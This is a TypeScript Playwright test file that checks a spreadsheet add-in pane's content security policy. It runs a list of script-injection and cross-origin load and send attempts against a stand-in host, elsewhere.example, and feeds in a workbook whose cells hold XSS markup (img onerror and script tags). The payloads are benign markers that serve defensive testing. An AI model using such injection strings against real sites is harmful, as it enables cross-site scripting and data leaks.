import type { Frame } from "playwright-core";
import { layoutFile } from "../support/layoutFile";
import { inBrowser } from "./support/inBrowser";
import type { OpenPreview } from "./support/openPreview";

declare global {
  interface Window {
    /** What stopped the last attempt. */
    stopped?: Promise<string>;
  }
}

const ELSEWHERE = "https://elsewhere.example";

interface Attempt {
  readonly says: string;
  /** Runs in the pane's page. */
  readonly run: () => void;
  /** What stops it. */
  readonly directive: string;
}

/** What a page could try, given somebody's words to run, to load from elsewhere or to send there. */
const ATTEMPTS: readonly Attempt[] = [
  {
    says: "a script in the page",
    run: () => {
      const script = document.createElement("script");
      script.textContent = "window.broken = 1";
      document.body.append(script);
    },
    directive: "script-src-elem",
  },
  {
    says: "a handler in a tag",
    run: () => {
      document.body.insertAdjacentHTML("beforeend", '<b onclick="window.broken = 1">x</b>');
      (document.body.lastElementChild as HTMLElement).click();
    },
    directive: "script-src-attr",
  },
  {
    says: "text as code",
    // In its own time: what the browser's tools run is let do it.
    run: () => void setTimeout(() => (0, eval)("window.broken = 1") as unknown),
    directive: "script-src",
  },
  {
    says: "another server's script",
    run: () => {
      const script = document.createElement("script");
      script.src = "https://elsewhere.example/a.js";
      document.body.append(script);
    },
    directive: "script-src-elem",
  },
  {
    says: "another server's picture",
    run: () => void (new Image().src = "https://elsewhere.example/a.png"),
    directive: "img-src",
  },
  {
    says: "a request",
    run: () => void fetch("https://elsewhere.example/a").catch(() => undefined),
    directive: "connect-src",
  },
  {
    says: "a beacon",
    run: () => void navigator.sendBeacon("https://elsewhere.example/a", "words"),
    directive: "connect-src",
  },
  {
    says: "a socket",
    run: () => {
      const socket = new WebSocket("wss://elsewhere.example/a");
      socket.onerror = () => undefined;
    },
    directive: "connect-src",
  },
  {
    says: "another server's font",
    run: () =>
      void new FontFace("Other", "url(https://elsewhere.example/a.woff2)")
        .load()
        .catch(() => undefined),
    directive: "font-src",
  },
  {
    says: "another server's style sheet",
    run: () =>
      document.head.insertAdjacentHTML(
        "beforeend",
        '<link rel="stylesheet" href="https://elsewhere.example/a.css">',
      ),
    directive: "style-src-elem",
  },
  {
    says: "a frame",
    run: () =>
      document.body.insertAdjacentHTML(
        "beforeend",
        '<iframe src="https://elsewhere.example/a.html"></iframe>',
      ),
    directive: "frame-src",
  },
  {
    says: "a plug-in",
    run: () =>
      document.body.insertAdjacentHTML(
        "beforeend",
        '<object data="https://elsewhere.example/a.swf"></object>',
      ),
    directive: "object-src",
  },
  {
    says: "a form that is sent",
    run: () => {
      document.body.insertAdjacentHTML(
        "beforeend",
        '<form method="post" action="https://elsewhere.example/a"></form>',
      );
      (document.body.lastElementChild as HTMLFormElement).submit();
    },
    directive: "form-action",
  },
  {
    says: "another base of addresses",
    run: () =>
      document.head.insertAdjacentHTML("afterbegin", '<base href="https://elsewhere.example/">'),
    directive: "base-uri",
  },
];

const MARKUP = `<img src="${ELSEWHERE}/cell.png" onerror="window.broken = 1"><script>window.broken = 1</script>`;

const hostile = layoutFile({
  says: "A plan with markup in its cells",
  asOf: "2025-11-15",
  sheets: [
    {
      name: "Plan",
      rows: [
        ["Ref", "Action", "Lead", "Due date", "RAG", "Evidence"],
        ["1.1", `Agree a checklist ${MARKUP}`, "<b>Jo</b> Poole", "31/03/2025", "Red", MARKUP],
        ["1.2", "Train every visitor", "Sam Reed", "30/06/2025", "Green", "Minutes"],
      ],
    },
  ],
  read: [],
});

function paneFrame({ page }: OpenPreview): Frame {
  const frame = page.frames().find((each) => each.url().includes("taskpane.html"));
  if (!frame) throw new Error("The pane is not there.");
  return frame;
}

/** Everything that was asked of the other server while the test ran. */
async function watchElsewhere({ page }: OpenPreview): Promise<readonly string[]> {
  const asked: string[] = [];
  await page.route(`${ELSEWHERE}/**`, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  return asked;
}

inBrowser("the pane's content security policy", (open) => {
  test("stops every way in which its page could run words, load from elsewhere or send there", async () => {
    const preview = await open({ workbook: "quillbury" });
    await preview.pane.getByText("overdue").first().waitFor();
    const asked = await watchElsewhere(preview);
    const frame = paneFrame(preview);
    for (const { says, run, directive } of ATTEMPTS) {
      await frame.evaluate(() => {
        window.stopped = new Promise((resolve) => {
          setTimeout(() => resolve("nothing"), 10_000);
          const tell = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
          document.addEventListener("securitypolicyviolation", tell, { once: true });
        });
      });
      await frame.evaluate(run);
      const stopped = await frame.evaluate(() => window.stopped);
      expect(`${says} is stopped by ${stopped}`).toBe(`${says} is stopped by ${directive}`);
    }
    expect(await frame.evaluate(() => "broken" in window)).toBe(false);
    expect(asked).toEqual([]);
  });

  test("lets nothing that stands in cells run or be loaded: it is shown as the text that it is", async () => {
    const bytes = hostile;
    const preview = await open({ workbook: { name: "Hostile plan.xlsx", bytes } });
    const asked = await watchElsewhere(preview);
    await preview.pane.getByText("overdue").first().waitFor();
    await preview.pane.getByRole("tab", { name: "Actions" }).click();
    await preview.pane.getByText(`Agree a checklist ${MARKUP}`).first().waitFor();
    expect(await paneFrame(preview).evaluate(() => "broken" in window)).toBe(false);
    expect(await preview.page.evaluate(() => "broken" in window)).toBe(false);
    expect(asked).toEqual([]);
    expect(preview.errors).toEqual([]);
  });
});
